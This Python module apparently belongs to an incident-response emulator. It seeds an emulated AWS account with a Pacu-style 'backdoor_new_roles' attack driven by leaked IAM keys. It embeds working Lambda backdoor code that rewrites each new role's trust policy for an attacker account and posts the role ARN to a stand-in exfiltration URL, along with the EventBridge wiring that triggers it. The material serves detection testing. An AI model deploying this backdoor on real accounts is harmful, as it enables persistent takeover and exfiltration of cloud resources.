"""Scenario `pacu`: Pacu's `lambda__backdoor_new_roles`, run with stolen keys three hours ago.

The content is ours; the shape follows Rhino Security Labs' Pacu module: with the keys of
the IAM user `build-bot` (leaked, used from 198.51.100.23), the attacker
- creates an administrator role for the backdoor (AdministratorAccess attached);
- creates a Lambda function with a random name whose few lines, on each new role, call
  `iam:UpdateAssumeRolePolicy` to let the attacker's account assume it, and post the role's
  ARN to a raw IP address (a documentation address, 203.0.113.201; nothing listens);
- creates an EventBridge rule on CloudTrail's `CreateRole` (`aws.iam`), targets the function
  and lets `events.amazonaws.com` invoke it.
Runs on top of `estate` or standalone (seeds a ten-function estate): the estate's functions
are the quiet side of the capability checks.
"""

from __future__ import annotations

import json
import random
import string
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta

from lambda_ir.emulator.scenarios.actors import ActorClients, ScenarioClock, Target, admin
from lambda_ir.emulator.scenarios.actors import create_user_actor as _create_user
from lambda_ir.emulator.scenarios.attacker import Attack
from lambda_ir.emulator.scenarios.code import build_zip
from lambda_ir.emulator.scenarios.deploy import LAMBDA_TRUST
from lambda_ir.emulator.scenarios.estate import ground
from lambda_ir.emulator.scenarios.result import Actor, ScenarioResult
from lambda_ir.model import FunctionRef

REGION = "us-east-1"
USER = "build-bot"
ATTACKER_IP = "198.51.100.23"
ATTACKER_AGENT = "Boto3/1.34.2 Python/3.11.4 Linux/6.2.0 Botocore/1.34.2 Pacu/1.5.1"
ATTACKER_ACCOUNT = "444455556666"
EXFIL = "http://203.0.113.201/pacu/roles"
RULE = "pacu-new-role-backdoor"
CREATE_ROLE_PATTERN = {
    "source": ["aws.iam"],
    "detail-type": ["AWS API Call via CloudTrail"],
    "detail": {"eventSource": ["iam.amazonaws.com"], "eventName": ["CreateRole"]},
}
# What the backdoor runs on each CreateRole event (never run here: it is data in a zip).
BACKDOOR = """import json
import urllib.request

import boto3

iam = boto3.client("iam")
TRUST = {{"Effect": "Allow", "Principal": {{"AWS": "arn:aws:iam::{account}:root"}},
          "Action": "sts:AssumeRole"}}


def lambda_handler(event, context):
    role_name = event["detail"]["requestParameters"]["roleName"]
    role = iam.get_role(RoleName=role_name)["Role"]
    policy = role["AssumeRolePolicyDocument"]
    policy["Statement"].append(TRUST)
    iam.update_assume_role_policy(RoleName=role_name, PolicyDocument=json.dumps(policy))
    body = json.dumps({{"arn": role["Arn"]}}).encode()
    urllib.request.urlopen(urllib.request.Request("{exfil}", data=body), timeout=5)
    return {{"backdoored": role_name}}
"""


def backdoor_zip() -> bytes:
    """The backdoor's package (`lambda_function.py`)."""
    source = BACKDOOR.format(account=ATTACKER_ACCOUNT, exfil=EXFIL)
    return build_zip({"lambda_function.py": source})


def _leaked_user(emulator: Target, now: datetime) -> Actor:
    clock = ScenarioClock(now - timedelta(days=60))
    owner = ActorClients(emulator, admin(emulator), clock)
    iam = owner.client("iam")
    created = _create_user(
        iam, USER, source_ip=ATTACKER_IP, user_agent=ATTACKER_AGENT, tags={"team": "platform"}
    )
    iam.attach_user_policy(UserName=USER, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
    return Actor("attacker", created.arn, created.credentials, ATTACKER_IP, ATTACKER_AGENT)


def _backdoor(attack: Attack, name: str) -> str:
    iam = attack.clients.client("iam")
    attack.step(30)
    role = iam.create_role(
        RoleName=f"{name}-role", AssumeRolePolicyDocument=json.dumps(LAMBDA_TRUST)
    )["Role"]["Arn"]
    iam.attach_role_policy(
        RoleName=f"{name}-role", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"
    )
    attack.step(12)
    function = attack.lam(REGION).create_function(
        FunctionName=name,
        Runtime="python3.12",
        Role=role,
        Handler="lambda_function.lambda_handler",
        Code={"ZipFile": backdoor_zip()},
        Timeout=30,
    )["FunctionArn"]
    attack.record(
        "pacu.backdoor-function",
        "Backdoor function that rewrites new roles' trust policies",
        "CreateFunction20150331",
        ("T1098.003", "T1648"),
        attack.ref(REGION, name),
    )
    return str(function)


def _wire(attack: Attack, name: str, function_arn: str) -> None:
    events = attack.clients.client("events", REGION)
    attack.step(20)
    rule = events.put_rule(Name=RULE, EventPattern=json.dumps(CREATE_ROLE_PATTERN))["RuleArn"]
    attack.step(4)
    events.put_targets(Rule=RULE, Targets=[{"Id": "1", "Arn": function_arn}])
    attack.step(6)
    attack.lam(REGION).add_permission(
        FunctionName=name,
        StatementId="pacu-events",
        Action="lambda:InvokeFunction",
        Principal="events.amazonaws.com",
        SourceArn=str(rule),
    )
    attack.record(
        "pacu.invoke-permission",
        "EventBridge may invoke the backdoor",
        "AddPermission20150331v2",
        ("T1546",),
        attack.ref(REGION, name),
    )


def pacu(
    emulator: Target, prior: Sequence[ScenarioResult] = (), *, now: datetime | None = None
) -> ScenarioResult:
    """Seed Pacu's backdoor_new_roles (content is ours; the exfil address is documentation)."""
    now = now or datetime.now(UTC)
    base = ground(emulator, prior, now)
    rng = random.Random("pacu")  # noqa: S311 (reproducible, like Pacu's random name)
    name = "".join(rng.choices(string.ascii_lowercase + string.digits, k=12))
    attacker = _leaked_user(emulator, now)
    start = (now - timedelta(hours=3)).replace(microsecond=0)
    attack = Attack(emulator, attacker, ScenarioClock(start))
    attack.clients.client("iam").list_roles()
    function_arn = _backdoor(attack, name)
    _wire(attack, name, function_arn)
    ref = FunctionRef(emulator.account_id, REGION, name)
    return ScenarioResult(
        name="pacu",
        account_id=emulator.account_id,
        regions=(REGION,),
        functions=(ref,),
        actors=(attacker,),
        attacker=attacker,
        compromised=(ref,),
        techniques=tuple(attack.done),
        trail_bucket=base.trail_bucket,
        base=base,
        window=(start, attack.clock.now()),
    )
